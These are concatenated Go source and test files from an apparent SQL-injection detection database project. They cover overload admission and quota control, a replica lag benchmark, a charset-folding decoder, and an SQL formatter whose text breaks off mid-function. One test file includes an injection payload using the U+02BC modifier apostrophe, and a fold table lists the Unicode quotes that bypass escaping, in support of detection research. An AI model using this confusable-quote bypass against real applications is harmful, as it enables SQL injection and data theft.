	if a.Shedding() || a.Depth() != 0 || a.Sheds() != 0 || a.Capacity() != 0 {
		t.Fatal("nil accessors must be zero")
	}
}

func TestAdmissionAdmitsWhenIdle(t *testing.T) {
	a := NewAdmission(AdmissionOptions{Target: 5 * time.Millisecond, Capacity: 2})
	for i := 0; i < 100; i++ {
		ok, _ := a.Arrive()
		if !ok {
			t.Fatalf("arrival %d shed with zero service history", i)
		}
		a.Done(0, time.Millisecond)
	}
	if a.Sheds() != 0 {
		t.Fatalf("sheds = %d, want 0", a.Sheds())
	}
}

// TestAdmissionShedsOnEstimatedDelay drives the EWMA to a known service
// time, stacks up depth without completing, and checks the arrival
// bound: depth x service / capacity > target => shed with a hint.
func TestAdmissionShedsOnEstimatedDelay(t *testing.T) {
	a := NewAdmission(AdmissionOptions{Target: 5 * time.Millisecond, Capacity: 2})
	// Seed the EWMA at 2ms service time.
	for i := 0; i < 64; i++ {
		if ok, _ := a.Arrive(); !ok {
			t.Fatal("unexpected shed while seeding")
		}
		a.Done(0, 2*time.Millisecond)
	}
	// Capacity 2, service 2ms: estimated delay crosses 5ms past depth 5.
	admitted := 0
	var retry time.Duration
	for i := 0; i < 20; i++ {
		ok, ra := a.Arrive()
		if !ok {
			retry = ra
			break
		}
		admitted++
	}
	if admitted < 3 || admitted > 8 {
		t.Fatalf("admitted %d before shedding, want ~5-6", admitted)
	}
	if retry <= 0 {
		t.Fatalf("shed without retry-after hint")
	}
	if a.Sheds() == 0 {
		t.Fatal("shed counter not incremented")
	}
	if a.EstimatedDelay() <= 0 {
		t.Fatal("estimated delay should be positive with standing depth")
	}
	// Draining the queue restores admission.
	for i := 0; i < admitted; i++ {
		a.Done(0, 2*time.Millisecond)
	}
	if ok, _ := a.Arrive(); !ok {
		t.Fatal("arrival shed after queue drained")
	}
	a.Cancel()
}

// TestAdmissionCoDelStickyState checks the persistence detector:
// sojourns above target for a full interval flip the sticky shedding
// state (halving the bound), and one sojourn below target clears it.
func TestAdmissionCoDelStickyState(t *testing.T) {
	clk := newFakeClock()
	a := NewAdmission(AdmissionOptions{
		Target:   5 * time.Millisecond,
		Interval: 100 * time.Millisecond,
		Capacity: 2,
	})
	a.now = clk.now

	bad := 10 * time.Millisecond
	// First bad sojourn starts the streak, does not yet shed.
	a.depth.Add(1)
	a.Done(bad, time.Millisecond)
	if a.Shedding() {
		t.Fatal("one bad sojourn must not enter shedding")
	}
	// Still inside the interval: no state change.
	clk.advance(50 * time.Millisecond)
	a.depth.Add(1)
	a.Done(bad, time.Millisecond)
	if a.Shedding() {
		t.Fatal("streak shorter than interval must not enter shedding")
	}
	// Past the interval: sticky state engages.
	clk.advance(60 * time.Millisecond)
	a.depth.Add(1)
	a.Done(bad, time.Millisecond)
	if !a.Shedding() {
		t.Fatal("sustained above-target sojourns must enter shedding")
	}
	// One good sojourn clears it.
	a.depth.Add(1)
	a.Done(time.Millisecond, time.Millisecond)
	if a.Shedding() {
		t.Fatal("below-target sojourn must clear shedding")
	}
}

// TestAdmissionSheddingHalvesBound verifies the sticky state tightens
// the arrival bound to target/2.
func TestAdmissionSheddingHalvesBound(t *testing.T) {
	a := NewAdmission(AdmissionOptions{Target: 8 * time.Millisecond, Capacity: 1})
	a.ewmaNS.Store((2 * time.Millisecond).Nanoseconds())
	a.depth.Store(3) // est delay 6ms: under 8ms target, over the halved 4ms
	if ok, _ := a.Arrive(); !ok {
		t.Fatal("6ms estimate must pass the 8ms bound")
	}
	a.depth.Store(3)
	a.shedding.Store(true)
	if ok, _ := a.Arrive(); ok {
		t.Fatal("6ms estimate must fail the halved 4ms bound while shedding")
	}
}

func TestChaosAdmissionConcurrent(t *testing.T) {
	a := NewAdmission(AdmissionOptions{Target: time.Millisecond, Capacity: 4})
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 2000; i++ {
				if ok, ra := a.Arrive(); ok {
					a.Done(time.Duration(i%3)*time.Millisecond, 50*time.Microsecond)
				} else if ra <= 0 {
					t.Error("shed without hint")
					return
				}
			}
		}()
	}
	wg.Wait()
	if d := a.Depth(); d != 0 {
		t.Fatalf("depth %d after all requests completed, want 0", d)
	}
}
