package overload

import (
	"sync"
	"testing"
	"time"
)

func TestQuotaNilSafe(t *testing.T) {
	var q *Quota
	if ok, _ := q.Acquire(); !ok {
		t.Fatal("nil quota must admit")
	}
	q.Release()
	if q.InFlight() != 0 || q.Rejected() != 0 {
		t.Fatal("nil accessors must be zero")
	}
}

func TestQuotaRateAndBurst(t *testing.T) {
	clk := newFakeClock()
	q := NewQuota(QuotaSpec{Rate: 100, Burst: 5})
	q.now = clk.now
	q.last = clk.now()
	q.tokens = q.burst

	// The burst drains in full...
	for i := 0; i < 5; i++ {
		ok, _ := q.Acquire()
		if !ok {
			t.Fatalf("burst request %d rejected", i)
		}
		q.Release()
	}
	// ...then the bucket is empty and the hint says when a token lands.
	ok, retry := q.Acquire()
	if ok {
		t.Fatal("empty bucket must reject")
	}
	if retry <= 0 || retry > 100*time.Millisecond {
		t.Fatalf("retry hint %v out of range for rate 100/s", retry)
	}
	if q.Rejected() != 1 {
		t.Fatalf("rejected = %d, want 1", q.Rejected())
	}
	// Refill at 100/s: 30ms buys 3 tokens.
	clk.advance(30 * time.Millisecond)
	for i := 0; i < 3; i++ {
		if ok, _ := q.Acquire(); !ok {
			t.Fatalf("request %d rejected after refill", i)
		}
		q.Release()
	}
	if ok, _ := q.Acquire(); ok {
		t.Fatal("fourth request must exceed the 3-token refill")
	}
	// The bucket never overfills past burst.
	clk.advance(time.Hour)
	for i := 0; i < 5; i++ {
		if ok, _ := q.Acquire(); !ok {
			t.Fatalf("burst request %d rejected after long idle", i)
		}
		q.Release()
	}
	if ok, _ := q.Acquire(); ok {
		t.Fatal("bucket overfilled past burst")
	}
}

func TestQuotaMaxInFlight(t *testing.T) {
	q := NewQuota(QuotaSpec{MaxInFlight: 2})
	if ok, _ := q.Acquire(); !ok {
		t.Fatal("first acquire rejected")
	}
	if ok, _ := q.Acquire(); !ok {
		t.Fatal("second acquire rejected")
	}
	ok, retry := q.Acquire()
	if ok {
		t.Fatal("third concurrent acquire must be rejected")
	}
	if retry <= 0 {
		t.Fatal("in-flight rejection must carry a retry hint")
	}
	if q.InFlight() != 2 {
		t.Fatalf("inflight = %d, want 2", q.InFlight())
	}
	q.Release()
	if ok, _ := q.Acquire(); !ok {
		t.Fatal("acquire after release rejected")
	}
}

func TestQuotaUnlimitedSpec(t *testing.T) {
	q := NewQuota(QuotaSpec{})
	for i := 0; i < 1000; i++ {
		if ok, _ := q.Acquire(); !ok {
			t.Fatal("unlimited quota rejected a request")
		}
	}
}

func TestChaosQuotaConcurrent(t *testing.T) {
	q := NewQuota(QuotaSpec{Rate: 1e9, Burst: 1e9, MaxInFlight: 4})
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 2000; i++ {
				if ok, _ := q.Acquire(); ok {
					if n := q.InFlight(); n < 1 || n > 4 {
						t.Errorf("inflight %d outside [1,4]", n)
						q.Release()
						return
					}
					q.Release()
				}
			}
		}()
	}
	wg.Wait()
	if q.InFlight() != 0 {
		t.Fatalf("inflight = %d after drain, want 0", q.InFlight())
	}
}

func TestControlsCounters(t *testing.T) {
	var c *Controls
	c.NoteShed()
	if c.Sheds() != 0 || c.QuotaRejected() != 0 || c.BreakerTrips() != 0 {
		t.Fatal("nil controls counters must be zero")
	}
	c = NewControls(NewQuota(QuotaSpec{MaxInFlight: 1}), nil)
	c.NoteShed()
	c.NoteShed()
	if c.Sheds() != 2 {
		t.Fatalf("sheds = %d, want 2", c.Sheds())
	}
	c.Quota.Acquire()
	c.Quota.Acquire() // rejected: in-flight full
	if c.QuotaRejected() != 1 {
		t.Fatalf("quota rejected = %d, want 1", c.QuotaRejected())
	}
}
