package overload

import (
	"sync"
	"sync/atomic"
	"time"
)

// QuotaSpec configures a per-domain quota. Zero values mean "no limit
// of that kind", so a spec can express rate-only, concurrency-only, or
// both.
type QuotaSpec struct {
	// Rate is the sustained request budget in requests/second; <= 0
	// leaves the rate unlimited.
	Rate float64
	// Burst is the token-bucket size — how far above Rate a short burst
	// may spike. <= 0 defaults to Rate (minimum 1).
	Burst float64
	// MaxInFlight caps the domain's concurrently executing requests;
	// <= 0 leaves concurrency unlimited.
	MaxInFlight int
}

// Quota is a token-bucket rate limit plus an in-flight cap for one
// protection domain. It is the first overload check on the wire path:
// a flooded tenant is rejected here, before its excess can occupy the
// shared admission queue, so neighbors never see its load. Methods are
// safe for concurrent use and nil-safe.
type Quota struct {
	rate        float64
	burst       float64
	maxInFlight int64

	inflight atomic.Int64
	rejected atomic.Int64

	mu     sync.Mutex // guards tokens and last
	tokens float64
	last   time.Time

	now func() time.Time // injectable clock for tests
}

// NewQuota builds a quota from spec; a spec with no limits yields a
// quota that admits everything (callers may prefer nil in that case).
func NewQuota(spec QuotaSpec) *Quota {
	if spec.Burst <= 0 {
		spec.Burst = spec.Rate
	}
	if spec.Burst < 1 {
		spec.Burst = 1
	}
	q := &Quota{
		rate:        spec.Rate,
		burst:       spec.Burst,
		maxInFlight: int64(spec.MaxInFlight),
		tokens:      spec.Burst,
		now:         time.Now,
	}
	q.last = q.now()
	return q
}

// quotaInFlightRetry is the hint for in-flight rejections: the right
// wait is "until one of the domain's requests completes", which the
// quota cannot know, so it suggests one typical service burst.
const quotaInFlightRetry = 10 * time.Millisecond

// Acquire charges one request against the quota. On success the caller
// MUST Release when the request completes (the in-flight slot is held
// either way). On refusal retryAfter carries the backoff hint.
func (q *Quota) Acquire() (ok bool, retryAfter time.Duration) {
	if q == nil {
		return true, 0
	}
	if q.maxInFlight > 0 {
		if q.inflight.Add(1) > q.maxInFlight {
			q.inflight.Add(-1)
			q.rejected.Add(1)
			return false, clampRetryAfter(quotaInFlightRetry)
		}
	} else {
		q.inflight.Add(1)
	}
	if q.rate > 0 {
		q.mu.Lock()
		now := q.now()
		q.tokens += now.Sub(q.last).Seconds() * q.rate
		if q.tokens > q.burst {
			q.tokens = q.burst
		}
		q.last = now
		if q.tokens < 1 {
			// Hint: time for the bucket to refill to one token.
			deficit := (1 - q.tokens) / q.rate
			q.mu.Unlock()
			q.inflight.Add(-1)
			q.rejected.Add(1)
			return false, clampRetryAfter(time.Duration(deficit * float64(time.Second)))
		}
		q.tokens--
		q.mu.Unlock()
	}
	return true, 0
}

// Release returns the in-flight slot taken by a successful Acquire.
func (q *Quota) Release() {
	if q == nil {
		return
	}
	q.inflight.Add(-1)
}

// InFlight reports the domain's currently executing requests.
func (q *Quota) InFlight() int64 {
	if q == nil {
		return 0
	}
	return q.inflight.Load()
}

// Rejected reports requests the quota refused.
func (q *Quota) Rejected() int64 {
	if q == nil {
		return 0
	}
	return q.rejected.Load()
}
