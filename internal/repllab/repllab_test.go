package repllab

import (
	"strings"
	"testing"
)

// A scaled-down run of the replication lane: the primary trains, the
// replica converges, the replica's workload serves cleanly throughout,
// and the report renders. The full-size run is `septic-bench repl`.
func TestRunReplSmoke(t *testing.T) {
	res, err := RunRepl(t.TempDir(), 300, 20)
	if err != nil {
		t.Fatal(err)
	}
	if !res.Converged {
		t.Fatalf("replica did not converge: %+v", res)
	}
	if res.PrimaryModels == 0 || res.PrimaryModels != res.ReplicaModels {
		t.Fatalf("model counts diverged: primary %d, replica %d",
			res.PrimaryModels, res.ReplicaModels)
	}
	if res.ReplicaErrors != 0 {
		t.Fatalf("%d replica serve errors out of %d requests",
			res.ReplicaErrors, res.ReplicaRequests)
	}
	out := FormatRepl(res)
	for _, want := range []string{"converged=true", "primary seq", "models: primary"} {
		if !strings.Contains(out, want) {
			t.Fatalf("report missing %q:\n%s", want, out)
		}
	}
}
