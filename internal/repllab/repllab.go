package repllab

import (
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"time"

	"github.com/septic-db/septic/internal/benchlab"
	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/repl"
	"github.com/septic-db/septic/internal/sqlparser"
	"github.com/septic-db/septic/internal/wal"
)

// The replication lane measures read-replica freshness: a primary keeps
// training (a continuous stream of WAL records) while a replica follows
// the stream over loopback TCP and serves the Address Book workload in
// detection mode the whole time. The reported numbers are the
// replication lag (newest primary sequence minus last applied sequence)
// sampled over the run, and the time from the primary quiescing to the
// replica converging to lag 0.

// ReplSample is one lag observation.
type ReplSample struct {
	Elapsed    time.Duration
	PrimarySeq uint64
	AppliedSeq uint64
	Lag        uint64
}

// ReplResult is one replication-lane run.
type ReplResult struct {
	// Updates is how many training updates the primary produced during
	// the measured window; TrainDuration how long producing them took.
	Updates       int
	TrainDuration time.Duration
	// CatchUp is the time from the last primary update to the replica
	// reaching lag 0; Converged reports it happened within the deadline.
	CatchUp   time.Duration
	Converged bool
	// Samples are the lag observations over the run.
	Samples []ReplSample
	// Replica-side serving counters: Address Book workload requests
	// answered (in detection mode, from the streamed models) while the
	// stream was applying.
	ReplicaRequests int64
	ReplicaErrors   int64
	// Apply-path counters at the end of the run.
	AppliedRecords int64
	Snapshots      int64
	SnapshotBytes  int64
	// Model counts on both sides after convergence — equal when the
	// stream delivered everything.
	PrimaryModels int
	ReplicaModels int
}

// RunRepl runs the replication lane: `updates` distinct training
// updates on the primary while the replica replays the Address Book
// workload `loops` times. dir hosts the primary's WAL.
func RunRepl(dir string, updates, loops int) (*ReplResult, error) {
	spec := benchlab.PaperSpecs()[0] // Address Book

	// Primary: training mode over a WAL — the replication source.
	guard := core.New(core.Config{Mode: core.ModeTraining},
		core.WithLogger(core.NewLogger(core.WithCheckedSampling(0))))
	persist, err := guard.AttachPersistence(core.PersistenceOptions{
		Dir: dir + "/primary", Fsync: wal.FsyncNever,
	})
	if err != nil {
		return nil, err
	}
	defer persist.Close()
	db := engine.New(engine.WithQueryHook(guard))
	for _, q := range spec.Schema {
		if _, err := db.Exec(q); err != nil {
			return nil, fmt.Errorf("schema: %w", err)
		}
	}
	app := spec.Build(db)
	for _, req := range spec.Training {
		if resp := app.Serve(req.Clone()); resp.Status != 200 {
			return nil, fmt.Errorf("training %s: %v", req, resp.Err)
		}
	}

	primary := repl.NewPrimary(persist, repl.PrimaryOptions{
		HeartbeatInterval: 20 * time.Millisecond,
	})
	defer primary.Close()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	defer ln.Close()
	go func() { _ = primary.Serve(ln) }()

	// Replica: detection mode, fed by the stream, serving the workload.
	rguard := core.New(core.Config{
		Mode: core.ModeDetection, DetectSQLI: true, DetectStored: true,
		IncrementalLearning: true,
	}, core.WithLogger(core.NewLogger(core.WithCheckedSampling(0))))
	rs, err := rguard.AttachReplicaSource()
	if err != nil {
		return nil, err
	}
	rdb := engine.New(engine.WithQueryHook(rguard))
	for _, q := range spec.Schema {
		if _, err := rdb.Exec(q); err != nil {
			return nil, fmt.Errorf("replica schema: %w", err)
		}
	}
	rapp := spec.Build(rdb)
	// Populate the replica's application data (its database is its own;
	// only the MODELS replicate). SEPTIC learns nothing here — the
	// stores are read-only.
	for _, req := range spec.Training {
		rapp.Serve(req.Clone())
	}
	replica := repl.NewReplica(ln.Addr().String(), rs, repl.ReplicaOptions{
		ReadTimeout: 2 * time.Second, BackoffBase: 5 * time.Millisecond,
	})
	replica.Start()
	defer replica.Close()

	// Pre-parse the training updates outside the measured window.
	ctxs := make([]*engine.HookContext, updates)
	for i := range ctxs {
		q := fmt.Sprintf("/* r%06d */ SELECT a FROM t WHERE b = %d", i, i)
		stmt, err := sqlparser.Parse(q)
		if err != nil {
			return nil, err
		}
		ctxs[i] = &engine.HookContext{
			Raw: q, Decoded: q, Stmt: stmt, Comments: stmt.StatementComments(),
		}
	}

	res := &ReplResult{Updates: updates}

	// Replica-side serving loop: detection reads against the streamed
	// models while the stream applies.
	var served, serveErrs atomic.Int64
	serveDone := make(chan struct{})
	go func() {
		defer close(serveDone)
		for l := 0; l < loops; l++ {
			for _, req := range spec.Workload {
				resp := rapp.Serve(req.Clone())
				served.Add(1)
				if resp.Status != 200 {
					serveErrs.Add(1)
				}
			}
		}
	}()

	// Lag sampler.
	samplerStop := make(chan struct{})
	samplerDone := make(chan struct{})
	start := time.Now()
	go func() {
		defer close(samplerDone)
		t := time.NewTicker(10 * time.Millisecond)
		defer t.Stop()
		for {
			select {
			case <-samplerStop:
				return
			case <-t.C:
				st := rs.Stats()
				head := persist.ReplLastSeq()
				var lag uint64
				if head > st.AppliedSeq {
					lag = head - st.AppliedSeq
				}
				res.Samples = append(res.Samples, ReplSample{
					Elapsed:    time.Since(start),
					PrimarySeq: head,
					AppliedSeq: st.AppliedSeq,
					Lag:        lag,
				})
			}
		}
	}()

	// The measured window: the primary trains continuously.
	for _, hctx := range ctxs {
		if err := guard.BeforeExecute(hctx); err != nil {
			return nil, fmt.Errorf("train: %w", err)
		}
	}
	res.TrainDuration = time.Since(start)

	// Quiesce: wait for the replica to drain the stream.
	quiesce := time.Now()
	head := persist.ReplLastSeq()
	deadline := time.Now().Add(15 * time.Second)
	for time.Now().Before(deadline) {
		if rs.AppliedSeq() >= head {
			res.Converged = true
			break
		}
		time.Sleep(2 * time.Millisecond)
	}
	res.CatchUp = time.Since(quiesce)
	close(samplerStop)
	<-samplerDone
	<-serveDone

	st := rs.Stats()
	res.AppliedRecords = st.AppliedRecords
	res.Snapshots = st.Snapshots
	res.SnapshotBytes = st.SnapshotBytes
	res.ReplicaRequests = served.Load()
	res.ReplicaErrors = serveErrs.Load()
	res.PrimaryModels = guard.Store().ModelCount()
	res.ReplicaModels = rguard.Store().ModelCount()
	return res, nil
}

// FormatRepl renders the lag table and summary for EXPERIMENTS.md.
func FormatRepl(r *ReplResult) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%10s %12s %12s %8s\n", "t", "primary seq", "applied seq", "lag")
	// Thin the samples to ~12 rows so the table stays readable.
	step := len(r.Samples)/12 + 1
	for i := 0; i < len(r.Samples); i += step {
		s := r.Samples[i]
		fmt.Fprintf(&b, "%10s %12d %12d %8d\n",
			s.Elapsed.Round(time.Millisecond), s.PrimarySeq, s.AppliedSeq, s.Lag)
	}
	if n := len(r.Samples); n > 0 && (n-1)%step != 0 {
		s := r.Samples[n-1]
		fmt.Fprintf(&b, "%10s %12d %12d %8d\n",
			s.Elapsed.Round(time.Millisecond), s.PrimarySeq, s.AppliedSeq, s.Lag)
	}
	fmt.Fprintf(&b, "\n%d training updates in %v; catch-up to lag 0 in %v (converged=%t)\n",
		r.Updates, r.TrainDuration.Round(time.Millisecond),
		r.CatchUp.Round(time.Millisecond), r.Converged)
	fmt.Fprintf(&b, "replica served %d Address Book requests (%d errors) while applying %d record(s), %d snapshot(s) (%d bytes)\n",
		r.ReplicaRequests, r.ReplicaErrors, r.AppliedRecords, r.Snapshots, r.SnapshotBytes)
	fmt.Fprintf(&b, "models: primary %d, replica %d\n", r.PrimaryModels, r.ReplicaModels)
	return b.String()
}
