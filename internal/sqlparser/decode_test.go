package sqlparser

import (
	"strings"
	"testing"
	"testing/quick"
)

func TestDecodeCharsetASCIIUnchanged(t *testing.T) {
	in := "SELECT * FROM t WHERE a = 'x'"
	if got := DecodeCharset(in); got != in {
		t.Errorf("ASCII input changed: %q", got)
	}
}

func TestDecodeCharsetFoldsModifierApostrophe(t *testing.T) {
	// The paper's U+02BC example (§II-D): the modifier apostrophe decodes
	// to a plain quote inside the DBMS.
	in := "ID34FGʼ-- "
	want := "ID34FG'-- "
	if got := DecodeCharset(in); got != want {
		t.Errorf("DecodeCharset(%q) = %q, want %q", in, got, want)
	}
}

func TestDecodeCharsetFoldTable(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"right single quote", "O’Brien", "O'Brien"},
		{"left single quote", "‘x", "'x"},
		{"prime", "5′", "5'"},
		{"fullwidth apostrophe", "＇", "'"},
		{"fullwidth less-than", "＜", "<"},
		{"fullwidth greater-than", "＞", ">"},
		{"double quotes", "“q”", `"q"`},
		{"fullwidth equals", "a＝b", "a=b"},
		{"fullwidth semicolon", "a；", "a;"},
		{"no-break space", "a b", "a b"},
		{"plain utf8 preserved", "héllo wörld", "héllo wörld"},
		{"cjk preserved", "数据库", "数据库"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := DecodeCharset(tt.in); got != tt.want {
				t.Errorf("DecodeCharset(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestFoldsToQuote(t *testing.T) {
	for _, r := range []rune{'ʼ', '’', '‘', '′', '＇'} {
		if !FoldsToQuote(r) {
			t.Errorf("FoldsToQuote(%U) = false, want true", r)
		}
	}
	for _, r := range []rune{'\'', 'a', '“', '数'} {
		if FoldsToQuote(r) {
			t.Errorf("FoldsToQuote(%U) = true, want false", r)
		}
	}
}

// TestDecodeCharsetIdempotent: folding twice equals folding once.
func TestDecodeCharsetIdempotent(t *testing.T) {
	f := func(s string) bool {
		once := DecodeCharset(s)
		return DecodeCharset(once) == once
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

// TestSemanticMismatchEscapeGap documents the core of the paper: the
// escape function does not touch the confusable quote, but the DBMS-side
// decode turns it into a live quote.
func TestSemanticMismatchEscapeGap(t *testing.T) {
	payload := "ID34FGʼ AND 1=1-- "
	escaped := EscapeString(payload)
	if escaped != payload {
		t.Fatalf("mysql_real_escape_string-alike must not alter %q, got %q", payload, escaped)
	}
	decoded := DecodeCharset(escaped)
	if !strings.Contains(decoded, "'") {
		t.Fatalf("DBMS decode should produce a live quote, got %q", decoded)
	}
}
