package sqlparser

import (
	"strings"
	"unicode/utf8"
)

// DecodeCharset reproduces the character-set conversion MySQL applies to a
// received query *before* parsing it. This conversion is the root of the
// semantic-mismatch problem the paper demonstrates: application-side
// sanitization functions (mysql_real_escape_string and friends) operate on
// the raw bytes the application sees, while the DBMS parses the query only
// after folding "confusable" code points into their ASCII equivalents.
//
// The canonical example from the paper (§II-D) is U+02BC MODIFIER LETTER
// APOSTROPHE: mysql_real_escape_string does not escape it (it is none of
// ', ", \, NUL, \n, \r, Ctrl-Z), but MySQL's charset conversion turns it
// into a plain ASCII quote, making the injected quote "live" inside the
// DBMS even though the application believed the input was sanitized.
//
// The fold table below models the behaviour of MySQL conversions from
// multi-byte client charsets into latin1/ascii column charsets, where
// "best fit" mappings collapse typographic punctuation onto ASCII.
func DecodeCharset(query string) string {
	// Fast path: pure ASCII never needs folding.
	if isASCII(query) {
		return query
	}
	var b strings.Builder
	b.Grow(len(query))
	for _, r := range query {
		if folded, ok := charsetFold[r]; ok {
			b.WriteString(folded)
			continue
		}
		b.WriteRune(r)
	}
	return b.String()
}

// isASCII reports whether s contains only single-byte code points.
func isASCII(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] >= utf8.RuneSelf {
			return false
		}
	}
	return true
}

// charsetFold maps confusable code points to the ASCII characters MySQL's
// best-fit charset conversions produce for them. Only characters with a
// security-relevant ASCII best-fit mapping are folded; all other non-ASCII
// input is preserved verbatim (as a DBMS storing UTF-8 text would).
var charsetFold = map[rune]string{
	'ʼ': "'",  // MODIFIER LETTER APOSTROPHE — the paper's example
	'ʹ': "'",  // MODIFIER LETTER PRIME
	'‘': "'",  // LEFT SINGLE QUOTATION MARK
	'’': "'",  // RIGHT SINGLE QUOTATION MARK
	'‛': "'",  // SINGLE HIGH-REVERSED-9 QUOTATION MARK
	'′': "'",  // PRIME
	'＇': "'",  // FULLWIDTH APOSTROPHE
	'“': "\"", // LEFT DOUBLE QUOTATION MARK
	'”': "\"", // RIGHT DOUBLE QUOTATION MARK
	'″': "\"", // DOUBLE PRIME
	'＂': "\"", // FULLWIDTH QUOTATION MARK
	'＜': "<",  // FULLWIDTH LESS-THAN SIGN
	'＞': ">",  // FULLWIDTH GREATER-THAN SIGN
	'＝': "=",  // FULLWIDTH EQUALS SIGN
	'－': "-",  // FULLWIDTH HYPHEN-MINUS
	'＼': "\\", // FULLWIDTH REVERSE SOLIDUS
	'；': ";",  // FULLWIDTH SEMICOLON
	'％': "%",  // FULLWIDTH PERCENT SIGN
	' ': " ",  // NO-BREAK SPACE
}

// FoldsToQuote reports whether r is one of the code points that MySQL's
// charset conversion collapses onto an ASCII single quote. Exposed so the
// attack corpus and tests can enumerate the mismatch surface.
func FoldsToQuote(r rune) bool {
	return charsetFold[r] == "'"
}
