package sqlparser

import (
	"strconv"
	"strings"
)

// Format renders a statement back to SQL text. The output is canonical
// (upper-case keywords, single spaces, quoted strings re-escaped) and is
// used by the logger, the shell and the examples; it is not used for
// detection, which operates on the query structure.
func Format(stmt Statement) string {
	var b strings.Builder
	formatStatement(&b, stmt)
	return b.String()
}

func formatStatement(b *strings.Builder, stmt Statement) {
	switch s := stmt.(type) {
	case *SelectStmt:
		formatSelect(b, s)
	case *InsertStmt:
		formatInsert(b, s)
	case *UpdateStmt:
		formatUpdate(b, s)
	case *DeleteStmt:
		formatDelete(b, s)
	case *CreateTableStmt:
		formatCreateTable(b, s)
	case *DropTableStmt:
		b.WriteString("DROP TABLE ")
		if s.IfExists {
			b.WriteString("IF EXISTS ")
		}
		b.WriteString(s.Table)
	case *ShowTablesStmt:
		b.WriteString("SHOW TABLES")
	case *DescribeStmt:
		b.WriteString("DESCRIBE ")
		b.WriteString(s.Table)
	case *ExplainStmt:
		b.WriteString("EXPLAIN ")
		formatSelect(b, s.Select)
	}
}

func formatSelect(b *strings.Builder, s *SelectStmt) {
	b.WriteString("SELECT ")
	if s.Distinct {
		b.WriteString("DISTINCT ")
	}
	for i, f := range s.Fields {
		if i > 0 {
			b.WriteString(", ")
		}
		switch {
		case f.Star:
			b.WriteString("*")
		case f.TableStar != "":
			b.WriteString(f.TableStar)
			b.WriteString(".*")
		default:
			formatExpr(b, f.Expr)
			if f.Alias != "" {
				b.WriteString(" AS ")
				b.WriteString(f.Alias)
			}
		}
	}
	if len(s.From) > 0 {
		b.WriteString(" FROM ")
		for i, t := range s.From {
			if i > 0 {
				if t.Join == "" || t.Join == "CROSS" {
					b.WriteString(", ")
				} else {
					b.WriteString(" ")
					b.WriteString(t.Join)
					b.WriteString(" JOIN ")
				}
			}
			if t.Subquery != nil {
				b.WriteString("(")
				formatSelect(b, t.Subquery)
				b.WriteString(")")
			} else {
				b.WriteString(t.Name)
			}
			if t.Alias != "" {
				b.WriteString(" AS ")
				b.WriteString(t.Alias)
			}
			if t.On != nil {
				b.WriteString(" ON ")
				formatExpr(b, t.On)
			}
		}
	}
	if s.Where != nil {
		b.WriteString(" WHERE ")
		formatExpr(b, s.Where)
	}
	if len(s.GroupBy) > 0 {
		b.WriteString(" GROUP BY ")
		for i, e := range s.GroupBy {
			if i > 0 {
				b.WriteString(", ")
			}
			formatExpr(b, e)
		}
	}
	if s.Having != nil {
		b.WriteString(" HAVING ")
		formatExpr(b, s.Having)
	}
	formatOrderLimit(b, s.OrderBy, s.Limit)
	if s.Union != nil {
		b.WriteString(" UNION ")
		if s.Union.All {
			b.WriteString("ALL ")
		}
		formatSelect(b, s.Union.Next)
	}
}

func formatOrderLimit(b *strings.Builder, orderBy []OrderItem, limit *Limit) {
	if len(orderBy) > 0 {
		b.WriteString(" ORDER BY ")
		for i, o := range orderBy {
			if i > 0 {
				b.WriteString(", ")
			}
			formatExpr(b, o.Expr)
			if o.Desc {
				b.WriteString(" DESC")
			}
		}
	}
	if limit != nil {
		b.WriteString(" LIMIT ")
		formatExpr(b, limit.Count)
		if limit.Offset != nil {
			b.WriteString(" OFFSET ")
			formatExpr(b, limit.Offset)
		}
	}
}

func formatInsert(b *strings.Builder, s *InsertStmt) {
	b.WriteString("INSERT INTO ")
	b.WriteString(s.Table)
	if len(s.Columns) > 0 {
		b.WriteString(" (")
		b.WriteString(strings.Join(s.Columns, ", "))
		b.WriteString(")")
	}
	if s.Select != nil {
		b.WriteString(" ")
		formatSelect(b, s.Select)
		return
	}
	b.WriteString(" VALUES ")
	for i, row := range s.Rows {
		if i > 0 {
			b.WriteString(", ")
		}
		b.WriteString("(")
		for j, e := range row {
			if j > 0 {
				b.WriteString(", ")
			}
			formatExpr(b, e)
		}
		b.WriteString(")")
	}
}

func formatUpdate(b *strings.Builder, s *UpdateStmt) {
	b.WriteString("UPDATE ")
	b.WriteString(s.Table)
	b.WriteString(" SET ")
	for i, a := range s.Sets {
		if i > 0 {
			b.WriteString(", ")
		}
		b.WriteString(a.Column)
		b.WriteString(" = ")
		formatExpr(b, a.Value)
	}
	if s.Where != nil {
		b.WriteString(" WHERE ")
		formatExpr(b, s.Where)
	}
	formatOrderLimit(b, s.OrderBy, s.Limit)
}

func formatDelete(b *strings.Builder, s *DeleteStmt) {
	b.WriteString("DELETE FROM ")
	b.WriteString(s.Table)
	if s.Where != nil {
		b.WriteString(" WHERE ")
		formatExpr(b, s.Where)
	}
	formatOrderLimit(b, s.OrderBy, s.Limit)
}

func formatCreateTable(b *strings.Builder, s *CreateTableStmt) {
	b.WriteString("CREATE TABLE ")
	if s.IfNotExists {
		b.WriteString("IF NOT EXISTS ")
	}
	b.WriteString(s.Table)
	b.WriteString(" (")
	for i, c := range s.Columns {
		if i > 0 {
			b.WriteString(", ")
		}
		b.WriteString(c.Name)
		b.WriteString(" ")
		b.WriteString(c.Type)
		if c.PrimaryKey {
			b.WriteString(" PRIMARY KEY")
		}
		if c.AutoIncrement {
			b.WriteString(" AUTO_INCREMENT")
		}
		if c.Unique {
			b.WriteString(" UNIQUE")
		}
		if c.NotNull {
			b.WriteString(" NOT NULL")
		}
		if c.Default != nil {
			b.WriteString(" DEFAULT ")
